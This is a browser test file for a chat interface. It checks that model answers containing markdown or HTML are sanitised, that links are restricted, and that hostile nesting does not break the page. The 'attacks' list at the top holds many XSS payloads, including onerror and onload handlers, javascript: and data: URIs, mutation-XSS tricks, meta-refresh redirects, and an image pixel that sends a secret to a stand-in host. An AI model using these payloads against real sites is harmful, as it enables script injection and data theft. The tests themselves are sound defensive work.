import { afterAll, beforeAll, expect, test } from "vitest";
import { openBrowser, type Browser } from "./open-page.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

const elsewhere = "http://elsewhere.test";
const attacks = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `![picture](${elsewhere}/pixel.png?secret=1)`,
  `![][ref]\n\n[ref]: ${elsewhere}/by-reference.png`,
  `[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1)) [click](vbscript:x)`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <data:text/html,x>`,
  `<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>`,
  `<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  `<style>* { background: url(${elsewhere}/style) }</style><link rel=stylesheet href="${elsewhere}/css">`,
  `<form action="${elsewhere}"><input name=token autofocus onfocus=alert(1)><button>Go</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<base href="${elsewhere}"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<video poster="${elsewhere}/v" autoplay><source src="${elsewhere}/s" onerror=alert(1)></video>`,
  `<a href="${elsewhere}" ping="${elsewhere}/ping" style="position:fixed;inset:0">everywhere</a>`,
  '```html"onmouseover=alert(1)\n<img src=x onerror=alert(1)>\n```',
  "```xml\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  `[title](${elsewhere} "a\\" onmouseover=alert(1) x=\\"")`,
  `| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg/onload=alert(1)> | [x](javascript:alert(1)) |`,
  `<div id="app"><textarea></textarea></div><x-y contenteditable autofocus onfocus=alert(1)>`,
  `[relative](/api/chat/logout) [protocol](//elsewhere.test/x) [blob](blob:${elsewhere}/x) [file](file:///etc/passwd)`,
];
/** What the page itself gives to the parts of an answer. */
const furnished = "align aria-label class data-language dir href rel start tabindex target title type".split(" ");
const hostile = attacks.join("\n\n");

test("whatever a model writes runs nothing and asks nobody for anything", async () => {
  const { page, server, incidents } = await browser.open();
  await page.getByRole("textbox").fill("Attack me");
  await page.keyboard.press("Enter");
  await page.getByTestId("thinking").waitFor();
  // As drafts are cut anywhere: every attack is shown half-written too.
  for (const length of [40, 90, 333, 700, 1_200, 1_900, hostile.length]) server.grow(hostile.slice(0, length));
  server.finish({ text: `${hostile}\n\nThe end.`, footer: hostile });
  await page.getByTestId("answer").getByText("The end.").waitFor();
  for (const target of await page.getByTestId("answer").locator("a, pre, td, th").all()) await target.hover();

  const answer = page.getByTestId("answer");
  const forbidden =
    "img, svg, iframe, object, embed, script, style, link, form, input, video, source, base, meta, math, div#app";
  expect(await answer.locator(forbidden).count()).toBe(0);
  const attributes = await page.evaluate(
    "[...new Set([...document.querySelectorAll('.block *')].flatMap((node) => node.getAttributeNames()))].join()",
  );
  expect(
    String(attributes)
      .split(",")
      .filter((name) => !furnished.includes(name)),
  ).toEqual([]);
  expect(await answer.getByText("<script>alert(1)</script>").first().isVisible()).toBe(true);
  expect(incidents).toEqual([]);
  expect(server.unknown).toEqual([]);
});

test("links lead only to the web and to mail, tell nothing, and pictures are links too", async () => {
  const { page } = await browser.open({
    answer: () =>
      `[web](https://example.org/a) [mail](mailto:a@example.org) ![a chart](https://example.org/chart.png) [bad](javascript:alert(1)) https://example.org/bare`,
  });
  await page.getByRole("textbox").fill("Links");
  await page.keyboard.press("Enter");
  const links = page.getByTestId("answer").locator("a");
  await links.first().waitFor();
  expect(
    await page.evaluate(
      "[...document.querySelectorAll('.answer a')].map((link) => [link.textContent, link.href, link.target, link.rel])",
    ),
  ).toEqual(
    [
      ["web", "https://example.org/a"],
      ["mail", "mailto:a@example.org"],
      ["a chart", "https://example.org/chart.png"],
      ["https://example.org/bare", "https://example.org/bare"],
    ].map((link) => [...link, "_blank", "noopener noreferrer nofollow"]),
  );
  expect(await page.getByTestId("answer").textContent()).toContain("bad");
});

test("what I write myself is shown as I wrote it", async () => {
  const { page, incidents } = await browser.open({ answer: () => "Fine." });
  await page.getByRole("textbox").fill("<img src=x onerror=alert(1)> **not bold**");
  await page.keyboard.press("Enter");
  await page.getByTestId("answer").waitFor();
  expect(await page.locator(".said p").textContent()).toBe("<img src=x onerror=alert(1)> **not bold**");
  expect(incidents).toEqual([]);
});

test("an answer that is nested without end, or endless, is shown and does not break the page", async () => {
  const { page, incidents } = await browser.open({
    answer: (text) => (text === "deep" ? `${">".repeat(20_000)} deep` : "[".repeat(20_000)),
  });
  for (const text of ["deep", "long"]) {
    await page.getByRole("textbox").fill(text);
    await page.keyboard.press("Enter");
  }
  await page.getByTestId("answer").nth(1).waitFor();
  expect(incidents).toEqual([]);
});
